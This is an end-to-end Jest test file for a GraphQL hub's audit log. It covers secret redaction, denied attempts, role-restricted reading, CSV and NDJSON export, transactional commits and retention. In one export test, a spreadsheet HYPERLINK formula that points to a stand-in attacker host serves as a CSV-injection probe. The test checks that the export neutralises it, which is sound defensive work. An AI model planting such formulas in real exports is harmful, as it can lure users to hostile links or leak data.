import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { INestApplicationContext } from '@nestjs/common';
import { createClient } from 'graphql-ws';
import { Redis } from 'ioredis';
import WebSocket from 'ws';
import { DataSource } from 'typeorm';
import { JobName, JobsService } from '#core';
import { GraphQLClient, errorCode } from '../support/graphql-client.js';
import { startHub, type RunningHub } from '../support/hub-app.js';
import { oneHubTargetRows } from '../support/hub-targets.js';
import { parseCsv } from '../support/csv.js';
import { everythingStdio } from '../support/upstreams.js';
import { startWorker } from '../support/worker-app.js';

const ADMIN = { email: 'admin@example.com', password: 'admin-password-123' };
const MEMBER = { email: 'audit-member@example.com', password: 'member-password-123' };
const AUDITOR = { email: 'audit-auditor@example.com', password: 'auditor-password-123' };
const WRONG_PASSWORD = 'wrong-password-QX81';
const ENV_SECRET_1 = 'tok-SECRET-alpha-7731';
const ENV_SECRET_2 = 'tok-SECRET-bravo-9902';
const HEADER_SECRET = 'Bearer hdr-SECRET-charlie-4410';
const UA = 'audit-e2e/1.0 (+loopback)';

const ENTRY = `id at actorId actorLabel authMethod action targetType targetId outcome errorCode errorMessage ip userAgent correlationId
  changes { entity entityId operation fields { name secret oldValue newValue entries } }`;
const AUDIT_LOG = `query($f: AuditLogFilter, $n: Int, $a: String){ auditLog(filter: $f, first: $n, after: $a){ nodes { ${ENTRY} } pageInfo { endCursor hasNextPage } } }`;

interface Field {
  name: string;
  secret: boolean;
  oldValue: unknown;
  newValue: unknown;
  entries: string[] | null;
}
interface Entry {
  id: string;
  at: string;
  actorId: string | null;
  actorLabel: string | null;
  authMethod: string | null;
  action: string;
  targetType: string | null;
  targetId: string | null;
  outcome: string;
  errorCode: string | null;
  errorMessage: string | null;
  ip: string | null;
  userAgent: string | null;
  correlationId: string | null;
  changes: { entity: string; entityId: string | null; operation: string; fields: Field[] }[];
}
interface Page {
  auditLog: { nodes: Entry[]; pageInfo: { endCursor: string | null; hasNextPage: boolean } };
}

const fieldsOf = (entry: Entry, entity: string) => new Map(entry.changes.filter((c) => c.entity === entity).flatMap((c) => c.fields.map((f) => [f.name, f] as const)));

describe.each(oneHubTargetRows('pglite'))('audit log on %s', (_name, target) => {
  let hub: RunningHub;
  let db: DataSource;
  let admin: GraphQLClient;
  let member: GraphQLClient;
  let auditor: GraphQLClient;
  let adminId: string;
  let memberId: string;
  let worker: INestApplicationContext | undefined;
  /** Request id of the createUser that made the member. */
  let createMemberRequest: string;

  /** A mutation sent with a known User-Agent; throws on errors. */
  async function act<T>(client: GraphQLClient, query: string, variables?: Record<string, unknown>): Promise<{ data: T; requestId: string }> {
    const { body, requestId } = await client.send<T>(query, variables, { 'user-agent': UA });
    if (body.errors?.length) throw new Error(`GraphQL error: ${JSON.stringify(body.errors)}`);
    return { data: body.data!, requestId: requestId! };
  }

  async function attempt(client: GraphQLClient, query: string, variables?: Record<string, unknown>, headers: Record<string, string> = {}) {
    return client.send(query, variables, { 'user-agent': UA, ...headers });
  }

  /** Entries of one request, through the public API (as the auditor). */
  async function entriesOf(requestId: string, action: string): Promise<Entry[]> {
    const { auditLog } = await auditor.data<Page>(AUDIT_LOG, { f: { action }, n: 100 });
    const mine = auditLog.nodes.filter((e) => e.correlationId === requestId);
    // Nothing else in the table carries this request id either.
    const [{ n }] = await db.query(`SELECT count(*)::int AS n FROM audit_log WHERE correlation_id = $1`, [requestId]);
    expect(n).toBe(mine.length);
    return mine;
  }

  async function onlySuccess(requestId: string, action: string): Promise<Entry> {
    const entries = await entriesOf(requestId, action);
    expect(entries.map((e) => e.outcome)).toEqual(['SUCCESS']);
    const entry = entries[0];
    expect(entry).toMatchObject({ actorId: adminId, actorLabel: ADMIN.email, authMethod: 'PASSWORD', userAgent: UA, correlationId: requestId, errorCode: null });
    expect(entry.ip).toMatch(/127\.0\.0\.1$/);
    return entry;
  }

  async function onlyDenied(requestId: string | null, action: string): Promise<Entry> {
    const entries = await entriesOf(requestId!, action);
    expect(entries.map((e) => e.outcome)).toEqual(['DENIED']);
    return entries[0];
  }

  beforeAll(async () => {
    if (target.env.REDIS_URL) {
      // This spec's own Redis DB: no queue or schedule left from another run.
      const redis = new Redis(target.env.REDIS_URL);
      await redis.flushdb();
      await redis.quit();
    }
    hub = await startHub(target.database, target.env);
    db = hub.app.get(DataSource);
    admin = new GraphQLClient(hub.url);
    await admin.login(ADMIN.email, ADMIN.password);
    adminId = (await admin.data<{ me: { id: string } }>('{ me { id } }')).me.id;
    const created = await act<{ createUser: { id: string } }>(admin, 'mutation($i: CreateUserInput!){ createUser(input: $i){ id } }', { i: { ...MEMBER } });
    memberId = created.data.createUser.id;
    createMemberRequest = created.requestId;
    await admin.data('mutation($i: CreateUserInput!){ createUser(input: $i){ id } }', { i: { ...AUDITOR, role: 'AUDITOR' } });
    member = new GraphQLClient(hub.url);
    await member.login(MEMBER.email, MEMBER.password);
    auditor = new GraphQLClient(hub.url);
    await auditor.login(AUDITOR.email, AUDITOR.password);
  });

  afterAll(async () => {
    await worker?.close();
    await hub?.close();
  });

  describe('every admin action leaves exactly one SUCCESS entry', () => {
    let serverId: string;
    let groupId: string;
    let keyId: string;
    /** Secret values (and their sealed or hashed forms) that must never reach the table. */
    const secrets: string[] = [ENV_SECRET_1, ENV_SECRET_2, 'hdr-SECRET-charlie', MEMBER.password, AUDITOR.password, ADMIN.password];

    it('should record createUser with who, from where, which request and the fields (the password only as changed)', async () => {
      const entry = await onlySuccess(createMemberRequest, 'createUser');
      expect(entry).toMatchObject({ targetType: 'User', targetId: memberId });
      const fields = fieldsOf(entry, 'User');
      expect(fields.get('email')).toMatchObject({ secret: false, newValue: MEMBER.email });
      expect(fields.get('role')).toMatchObject({ newValue: 'MEMBER' });
      expect(fields.get('passwordHash')).toMatchObject({ secret: true, newValue: '[secret changed]', oldValue: null });
    });

    it('should record registerServer with its env secret named but not shown', async () => {
      const { data, requestId } = await act<{ registerServer: { id: string } }>(admin, 'mutation($i: RegisterServerInput!){ registerServer(input: $i){ id } }', {
        i: { name: 'Audited stdio', transport: 'STDIO', ...everythingStdio(), env: [{ name: 'API_TOKEN', value: ENV_SECRET_1 }], enabled: false },
      });
      serverId = data.registerServer.id;
      const entry = await onlySuccess(requestId, 'registerServer');
      expect(entry).toMatchObject({ targetType: 'Server', targetId: serverId });
      expect(fieldsOf(entry, 'Server').get('name')).toMatchObject({ newValue: 'Audited stdio' });
      // How to reach it is its primary endpoint, written in the same operation under the server's id.
      const endpoint = fieldsOf(entry, 'ServerEndpoint');
      expect(entry.changes).toContainEqual(expect.objectContaining({ entity: 'ServerEndpoint', entityId: serverId, operation: 'INSERT' }));
      expect(endpoint.get('transport')).toMatchObject({ newValue: 'STDIO' });
      expect(endpoint.get('env')).toMatchObject({ secret: true, newValue: '[secret changed]', entries: ['API_TOKEN'] });
    });

    it('should record updateServer changing a secret: old and new plain values, the secret only as changed', async () => {
      const { requestId } = await act(admin, 'mutation($id: ID!, $i: UpdateServerInput!){ updateServer(id: $id, input: $i){ id } }', {
        id: serverId,
        i: { description: 'rotated token', env: [{ name: 'API_TOKEN', value: ENV_SECRET_2 }] },
      });
      const entry = await onlySuccess(requestId, 'updateServer');
      expect(entry).toMatchObject({ targetType: 'Server', targetId: serverId });
      expect(entry.changes).toEqual([
        expect.objectContaining({ entity: 'Server', entityId: serverId, operation: 'UPDATE' }),
        expect.objectContaining({ entity: 'ServerEndpoint', entityId: serverId, operation: 'UPDATE' }),
      ]);
      const fields = new Map([...fieldsOf(entry, 'Server'), ...fieldsOf(entry, 'ServerEndpoint')]);
      secrets.push(...((await db.query(`SELECT e->>'value' AS v FROM server_endpoints, jsonb_array_elements(env) e WHERE id = $1`, [serverId])) as { v: string }[]).map((r) => r.v));
      expect(fields.get('description')).toMatchObject({ secret: false, oldValue: null, newValue: 'rotated token' });
      expect(fields.get('env')).toMatchObject({ secret: true, oldValue: null, newValue: '[secret changed]', entries: ['API_TOKEN'] });
    });

    it('should not call an untouched secret changed', async () => {
      const { requestId } = await act(admin, 'mutation($id: ID!, $i: UpdateServerInput!){ updateServer(id: $id, input: $i){ id } }', {
        id: serverId,
        i: { description: 'only the description' },
      });
      const entry = await onlySuccess(requestId, 'updateServer');
      expect([...fieldsOf(entry, 'Server').keys()]).toEqual(['description']);
    });

    it('should record a header secret of an HTTP server without its value', async () => {
      const { requestId } = await act(admin, 'mutation($i: RegisterServerInput!){ registerServer(input: $i){ id } }', {
        i: { name: 'Audited http', transport: 'STREAMABLE_HTTP', url: 'http://127.0.0.1:9/mcp', headers: [{ name: 'Authorization', value: HEADER_SECRET }], enabled: false },
      });
      const entry = await onlySuccess(requestId, 'registerServer');
      expect(fieldsOf(entry, 'ServerEndpoint').get('headers')).toMatchObject({ secret: true, newValue: '[secret changed]', entries: ['Authorization'] });
    });

    it('should record createGroup with its fields and not the group revision bookkeeping', async () => {
      const { data, requestId } = await act<{ createGroup: { id: string } }>(admin, 'mutation($i: CreateGroupInput!){ createGroup(input: $i){ id } }', {
        i: { name: 'Audited group', slug: 'audited-group' },
      });
      groupId = data.createGroup.id;
      const entry = await onlySuccess(requestId, 'createGroup');
      expect(entry).toMatchObject({ targetType: 'Group', targetId: groupId });
      expect(entry.changes.map((c) => c.entity)).toEqual(['Group']);
      expect(fieldsOf(entry, 'Group').get('slug')).toMatchObject({ newValue: 'audited-group' });
    });

    it('should record createApiKey without the key or its hash', async () => {
      const { data, requestId } = await act<{ createApiKey: { secret: string; apiKey: { id: string } } }>(
        admin,
        'mutation($i: CreateApiKeyInput!){ createApiKey(input: $i){ secret apiKey { id } } }',
        { i: { name: 'audited key', groupIds: [groupId] } },
      );
      keyId = data.createApiKey.apiKey.id;
      secrets.push(data.createApiKey.secret, ((await db.query(`SELECT encode(secret_hash, 'hex') AS h FROM api_keys WHERE id = $1`, [keyId])) as { h: string }[])[0].h);
      const entry = await onlySuccess(requestId, 'createApiKey');
      expect(entry).toMatchObject({ targetType: 'ApiKey', targetId: keyId });
      const fields = fieldsOf(entry, 'ApiKey');
      expect(fields.get('name')).toMatchObject({ newValue: 'audited key' });
      expect(fields.get('groupIds')).toMatchObject({ newValue: [groupId] });
      expect(fields.get('secretHash')).toMatchObject({ secret: true, newValue: '[secret changed]' });
    });

    it('should record revokeApiKey with the revocation time', async () => {
      const { requestId } = await act(admin, 'mutation($id: ID!){ revokeApiKey(id: $id){ id } }', { id: keyId });
      const entry = await onlySuccess(requestId, 'revokeApiKey');
      expect(entry).toMatchObject({ targetType: 'ApiKey', targetId: keyId });
      expect(fieldsOf(entry, 'ApiKey').get('revokedAt')).toMatchObject({ oldValue: null, newValue: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) });
    });

    it('should record createRoutingRule with its conditions and action', async () => {
      const { data, requestId } = await act<{ createRoutingRule: { id: string } }>(
        admin,
        'mutation($i: CreateRoutingRuleInput!){ createRoutingRule(input: $i){ id } }',
        { i: { groupId, name: 'no deletes', priority: 10, conditions: { tool: { glob: '*__delete*' } }, action: { type: 'DENY', message: 'not here' } } },
      );
      const entry = await onlySuccess(requestId, 'createRoutingRule');
      expect(entry).toMatchObject({ targetType: 'RoutingRule', targetId: data.createRoutingRule.id });
      const fields = fieldsOf(entry, 'RoutingRule');
      expect(fields.get('action')).toMatchObject({ newValue: { type: 'DENY', message: 'not here' } });
      expect(fields.get('groupId')).toMatchObject({ newValue: groupId });
    });

    it('should record removeServer with what the server held, and a mutation that writes no row (restartServer)', async () => {
      const restarted = await act(admin, 'mutation($id: ID!){ restartServer(id: $id){ id } }', { id: serverId });
      expect((await onlySuccess(restarted.requestId, 'restartServer')).changes).toEqual([]);
      const removed = await act(admin, 'mutation($id: ID!){ removeServer(id: $id) }', { id: serverId });
      const entry = await onlySuccess(removed.requestId, 'removeServer');
      expect(entry).toMatchObject({ targetType: 'Server', targetId: serverId });
      expect(entry.changes[0]).toMatchObject({ entity: 'Server', entityId: serverId, operation: 'DELETE' });
      expect(fieldsOf(entry, 'Server').get('name')).toMatchObject({ oldValue: 'Audited stdio' });
      expect(fieldsOf(entry, 'Server').has('env')).toBe(false);
    });

    it('should record a mutation sent over the WebSocket transport under the person who sent it', async () => {
      const ws = createClient({ url: `${hub.url.replace('http', 'ws')}/graphql`, webSocketImpl: WebSocket, connectionParams: { authorization: `Bearer ${admin.token}` } });
      try {
        const result = await new Promise<{ data?: { createGroup: { id: string } }; errors?: unknown }>((resolve, reject) => {
          let last: { data?: { createGroup: { id: string } } } = {};
          ws.subscribe<{ createGroup: { id: string } }>(
            { query: 'mutation{ createGroup(input: { name: "Over ws", slug: "over-ws" }){ id } }' },
            { next: (r) => void (last = r as typeof last), error: reject, complete: () => resolve(last) },
          );
        });
        const id = result.data!.createGroup.id;
        const { auditLog } = await auditor.data<Page>(AUDIT_LOG, { f: { targetType: 'Group', targetId: id }, n: 10 });
        expect(auditLog.nodes).toHaveLength(1);
        expect(auditLog.nodes[0]).toMatchObject({ action: 'createGroup', outcome: 'SUCCESS', actorId: adminId, actorLabel: ADMIN.email, authMethod: 'PASSWORD' });
        expect(auditLog.nodes[0].correlationId).toMatch(/^[0-9a-f-]{36}$/);
      } finally {
        await ws.dispose();
      }
    });

    it('should hold no secret value anywhere in the table', async () => {
      const raw = ((await db.query(`SELECT t::text AS row FROM audit_log t`)) as { row: string }[]).map((r) => r.row).join('\n');
      const column = async (sql: string) => ((await db.query(sql)) as { v: string }[]).map((r) => r.v);
      const passwordHashes = await column(`SELECT password_hash AS v FROM users WHERE password_hash IS NOT NULL`);
      const sealedHeaders = await column(`SELECT e->>'value' AS v FROM server_endpoints, jsonb_array_elements(headers) e`);
      expect(passwordHashes.length).toBeGreaterThanOrEqual(3);
      expect(sealedHeaders.length).toBe(1);
      expect(secrets.length).toBe(6 + 1 + 2);
      expect(raw).toContain('[secret changed]');
      for (const secret of [...secrets, ...passwordHashes, ...sealedHeaders]) expect({ secret, found: raw.includes(secret) }).toEqual({ secret, found: false });
    });
  });

  describe('refused attempts are audited', () => {
    let adminServerId: string;

    beforeAll(async () => {
      adminServerId = (
        await admin.data<{ registerServer: { id: string } }>('mutation($i: RegisterServerInput!){ registerServer(input: $i){ id } }', {
          i: { name: 'Admins only', transport: 'STREAMABLE_HTTP', url: 'http://127.0.0.1:9/mcp', enabled: false },
        })
      ).registerServer.id;
    });

    it("should record a member's NOT_FOUND mutation on someone else's server as DENIED, and change nothing", async () => {
      const { body, requestId } = await attempt(member, 'mutation($id: ID!, $i: UpdateServerInput!){ updateServer(id: $id, input: $i){ id } }', {
        id: adminServerId,
        i: { name: 'mine now' },
      });
      expect(errorCode(body)).toBe('NOT_FOUND');
      const entry = await onlyDenied(requestId, 'updateServer');
      expect(entry).toMatchObject({ actorId: memberId, actorLabel: MEMBER.email, errorCode: 'NOT_FOUND', targetType: 'Server', targetId: adminServerId, changes: [] });
      const [{ name }] = await db.query(`SELECT name FROM mcp_servers WHERE id = $1`, [adminServerId]);
      expect(name).toBe('Admins only');
    });

    it("should record a member's FORBIDDEN mutation (refused by the access guard) as DENIED", async () => {
      const { body, requestId } = await attempt(member, 'mutation($i: CreateUserInput!){ createUser(input: $i){ id } }', {
        i: { email: 'sneaky@example.com', password: 'sneaky-password-123' },
      });
      expect(errorCode(body)).toBe('FORBIDDEN');
      const entry = await onlyDenied(requestId, 'createUser');
      expect(entry).toMatchObject({ actorId: memberId, authMethod: 'PASSWORD', errorCode: 'FORBIDDEN', targetType: 'User', targetId: null });
      expect(entry.errorMessage).toContain('user.manage');
    });

    it('should record a mutation without a token as DENIED with no actor', async () => {
      const { body, requestId } = await attempt(new GraphQLClient(hub.url), 'mutation($i: CreateGroupInput!){ createGroup(input: $i){ id } }', { i: { name: 'anon' } });
      expect(errorCode(body)).toBe('UNAUTHENTICATED');
      expect(await onlyDenied(requestId, 'createGroup')).toMatchObject({ actorId: null, actorLabel: null, errorCode: 'UNAUTHENTICATED' });
    });

    it('should record a failed sign-in under the account tried, without the password, and a successful one under the person', async () => {
      const anonymous = new GraphQLClient(hub.url);
      const failed = await attempt(anonymous, 'mutation($e: String!, $p: String!){ login(email: $e, password: $p){ accessToken } }', { e: MEMBER.email, p: WRONG_PASSWORD });
      expect(errorCode(failed.body)).toBe('UNAUTHENTICATED');
      expect(await onlyDenied(failed.requestId, 'login')).toMatchObject({ actorId: null, actorLabel: MEMBER.email, authMethod: 'PASSWORD', errorCode: 'UNAUTHENTICATED' });
      const ok = await act(anonymous, 'mutation($e: String!, $p: String!){ login(email: $e, password: $p){ accessToken } }', { e: MEMBER.email, p: MEMBER.password });
      const [entry] = await entriesOf(ok.requestId, 'login');
      expect(entry).toMatchObject({ outcome: 'SUCCESS', actorId: memberId, actorLabel: MEMBER.email, authMethod: 'PASSWORD' });
      const raw = ((await db.query(`SELECT t::text AS row FROM audit_log t`)) as { row: string }[]).map((r) => r.row).join('\n');
      expect(raw.includes(WRONG_PASSWORD)).toBe(false);
    });

    it('should record a mutation that fails on bad input as FAILED with its code', async () => {
      const { body, requestId } = await attempt(admin, 'mutation($i: CreateGroupInput!){ createGroup(input: $i){ id } }', { i: { name: 'dup', slug: 'audited-group' } });
      expect(errorCode(body)).toBe('CONFLICT');
      const entries = await entriesOf(requestId!, 'createGroup');
      expect(entries).toHaveLength(1);
      expect(entries[0]).toMatchObject({ outcome: 'FAILED', errorCode: 'CONFLICT', actorId: adminId, changes: [] });
    });
  });

  describe('reading the log', () => {
    it('should refuse the audit log to members and let auditors and admins read it', async () => {
      const refused = await member.request(AUDIT_LOG, { n: 5 });
      expect(errorCode(refused)).toBe('FORBIDDEN');
      expect((await auditor.data<Page>(AUDIT_LOG, { n: 5 })).auditLog.nodes).toHaveLength(5);
      expect((await admin.data<Page>(AUDIT_LOG, { n: 5 })).auditLog.nodes).toHaveLength(5);
    });

    it('should page newest first with an opaque cursor, without gaps or repeats', async () => {
      const all = (await auditor.data<Page>(AUDIT_LOG, { n: 100 })).auditLog;
      expect(all.nodes.length).toBeGreaterThan(10);
      expect(all.pageInfo.hasNextPage).toBe(false);
      const times = all.nodes.map((e) => Date.parse(e.at));
      expect([...times].sort((a, b) => b - a)).toEqual(times);
      const paged: string[] = [];
      let after: string | null = null;
      for (let pages = 0; pages < 50; pages++) {
        const page: Page['auditLog'] = (await auditor.data<Page>(AUDIT_LOG, { n: 3, a: after })).auditLog;
        paged.push(...page.nodes.map((e) => e.id));
        if (!page.pageInfo.hasNextPage) break;
        after = page.pageInfo.endCursor;
      }
      expect(paged).toEqual(all.nodes.map((e) => e.id));
    });

    it('should filter by outcome, actor, action and target', async () => {
      const query = async (f: Record<string, unknown>) => (await auditor.data<Page>(AUDIT_LOG, { f, n: 100 })).auditLog.nodes;
      const denied = await query({ outcome: 'DENIED' });
      expect(denied.length).toBeGreaterThanOrEqual(4);
      expect(new Set(denied.map((e) => e.outcome))).toEqual(new Set(['DENIED']));
      const byMember = await query({ actorId: memberId });
      expect(byMember.length).toBeGreaterThan(0);
      expect(byMember.every((e) => e.actorId === memberId)).toBe(true);
      const users = await query({ targetType: 'User', targetId: memberId, action: 'createUser' });
      expect(users.map((e) => e.correlationId)).toEqual([createMemberRequest]);
      const none = await query({ from: new Date(Date.now() + 60_000).toISOString() });
      expect(none).toEqual([]);
    });

    it('should refuse a page over 100, a foreign cursor and a malformed actor id, naming the argument', async () => {
      const big = await auditor.request(AUDIT_LOG, { n: 101 });
      expect(errorCode(big)).toBe('BAD_USER_INPUT');
      expect(big.errors?.[0].message).toMatch(/^first: /);
      const cursor = await auditor.request(AUDIT_LOG, { n: 5, a: 'bm90LWEtY3Vyc29y' });
      expect(errorCode(cursor)).toBe('BAD_USER_INPUT');
      expect(cursor.errors?.[0].message).toMatch(/^after: /);
      const actor = await auditor.request(AUDIT_LOG, { f: { actorId: 'nobody' } });
      expect(errorCode(actor)).toBe('BAD_USER_INPUT');
      expect(actor.errors?.[0].message).toMatch(/^filter\.actorId: /);
    });
  });

  describe('export', () => {
    const exportUrl = (params: Record<string, string>) => `${hub.url}/audit/export?${new URLSearchParams(params)}`;
    const bearer = (client: GraphQLClient) => ({ authorization: `Bearer ${client.token}` });

    it('should refuse the export without a token (401) and to members (403)', async () => {
      const anonymous = await fetch(exportUrl({ format: 'ndjson' }));
      expect(anonymous.status).toBe(401);
      expect(await anonymous.json()).toMatchObject({ error: { code: 'UNAUTHENTICATED' } });
      const asMember = await fetch(exportUrl({ format: 'ndjson' }), { headers: bearer(member) });
      expect(asMember.status).toBe(403);
      expect(await asMember.json()).toMatchObject({ error: { code: 'FORBIDDEN' } });
    });

    it('should stream matching entries as NDJSON, oldest first', async () => {
      const res = await fetch(exportUrl({ format: 'ndjson', action: 'createUser' }), { headers: bearer(auditor) });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
      const lines = (await res.text()).trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
      expect(lines.length).toBeGreaterThanOrEqual(3);
      expect(new Set(lines.map((l) => l.action))).toEqual(new Set(['createUser']));
      const times = lines.map((l) => Date.parse(l.at as string));
      expect([...times].sort((a, b) => a - b)).toEqual(times);
      expect(lines.find((l) => l.correlation_id === createMemberRequest)).toMatchObject({ outcome: 'SUCCESS', actor_id: adminId, target_id: memberId });
    });

    it('should export CSV that a spreadsheet reads as text: quoted, and no cell starting a formula', async () => {
      const hostile = '=HYPERLINK("http://evil.example/?x","click"), +1';
      const sent = await attempt(admin, 'mutation($i: CreateGroupInput!){ createGroup(input: $i){ id } }', { i: { name: '@SUM(1+1)', slug: 'csv-check' } }, { 'user-agent': hostile });
      expect(sent.body.errors).toBeUndefined();
      const res = await fetch(exportUrl({ format: 'csv', action: 'createGroup' }), { headers: bearer(admin) });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      const [header, ...rows] = parseCsv(await res.text());
      expect(header).toEqual(['id', 'at', 'actor_id', 'actor_label', 'auth_method', 'action', 'target_type', 'target_id', 'outcome', 'error_code', 'error_message', 'ip', 'user_agent', 'correlation_id', 'changes']);
      const row = rows.find((r) => r[header.indexOf('correlation_id')] === sent.requestId)!;
      expect(row[header.indexOf('user_agent')]).toBe(`'${hostile}`);
      expect(JSON.parse(row[header.indexOf('changes')])[0].fields).toEqual(expect.arrayContaining([{ name: 'name', new: '@SUM(1+1)' }]));
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it('should refuse an unknown format and a malformed date with 400, naming the parameter', async () => {
      const format = await fetch(exportUrl({ format: 'xml' }), { headers: bearer(auditor) });
      expect(format.status).toBe(400);
      expect(await format.json()).toMatchObject({ error: { code: 'BAD_INPUT', field: 'format' } });
      const from = await fetch(exportUrl({ format: 'csv', from: 'yesterday' }), { headers: bearer(auditor) });
      expect(from.status).toBe(400);
      expect(await from.json()).toMatchObject({ error: { field: 'from' } });
    });
  });

  describe('the entry commits with the change', () => {
    // Fails the COMMIT of any transaction whose audit entry names a "doomed" group: after the entry was written.
    const TRIGGER = `
      CREATE FUNCTION audit_e2e_fail() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN
        IF NEW.changes::text LIKE '%doomed-group%' THEN RAISE EXCEPTION 'refused at commit'; END IF;
        RETURN NULL;
      END $$;
      CREATE CONSTRAINT TRIGGER audit_e2e_fail AFTER INSERT ON audit_log DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION audit_e2e_fail();`;

    beforeAll(() => db.query(TRIGGER));
    afterAll(() => db.query(`DROP TRIGGER IF EXISTS audit_e2e_fail ON audit_log; DROP FUNCTION IF EXISTS audit_e2e_fail();`));

    it('should leave neither the change nor its entry when the transaction fails after the entry was written', async () => {
      const { body, requestId } = await attempt(admin, 'mutation($i: CreateGroupInput!){ createGroup(input: $i){ id } }', { i: { name: 'doomed', slug: 'doomed-group' } });
      expect(errorCode(body)).toBe('INTERNAL_SERVER_ERROR');
      expect(await db.query(`SELECT id FROM groups WHERE slug = 'doomed-group'`)).toEqual([]);
      const entries = await entriesOf(requestId!, 'createGroup');
      // Only the attempt's FAILED entry, written afterwards: the SUCCESS entry went with the group.
      expect(entries.map((e) => [e.outcome, e.errorCode, e.changes.length])).toEqual([['FAILED', 'INTERNAL', 0]]);
    });

    it('should leave both when the same transaction commits', async () => {
      const { data, requestId } = await act<{ createGroup: { id: string } }>(admin, 'mutation($i: CreateGroupInput!){ createGroup(input: $i){ id } }', {
        i: { name: 'kept', slug: 'kept-group' },
      });
      expect(await db.query(`SELECT id FROM groups WHERE slug = 'kept-group'`)).toEqual([{ id: data.createGroup.id }]);
      expect((await onlySuccess(requestId, 'createGroup')).targetId).toBe(data.createGroup.id);
    });
  });

  describe('retention', () => {
    it('should delete, in its scheduled job, only entries older than AUDIT_RETENTION_DAYS', async () => {
      const insert = (daysAgo: number, action: string) =>
        db.query(`INSERT INTO audit_log (id, at, action, outcome) VALUES (gen_random_uuid(), now() - make_interval(days => $1), $2, 'SUCCESS')`, [daysAgo, action]);
      for (let i = 0; i < 3; i++) await insert(400 + i, 'ancientAction');
      await insert(364, 'recentEnoughAction');
      const [{ n: before }] = await db.query(`SELECT count(*)::int AS n FROM audit_log`);
      if (!target.inProcessJobs) worker = await startWorker(hub.config);
      await hub.app.get(JobsService).enqueue(JobName.AUDIT_RETENTION);
      const deadline = Date.now() + 30_000;
      let left = 3;
      while (left > 0 && Date.now() < deadline) {
        [{ n: left }] = await db.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'ancientAction'`);
        if (left) await new Promise((r) => setTimeout(r, 100));
      }
      expect(left).toBe(0);
      const [{ n: after }] = await db.query(`SELECT count(*)::int AS n FROM audit_log`);
      expect(after).toBe(before - 3);
      expect(await db.query(`SELECT action FROM audit_log WHERE action = 'recentEnoughAction'`)).toEqual([{ action: 'recentEnoughAction' }]);
    });
  });
});
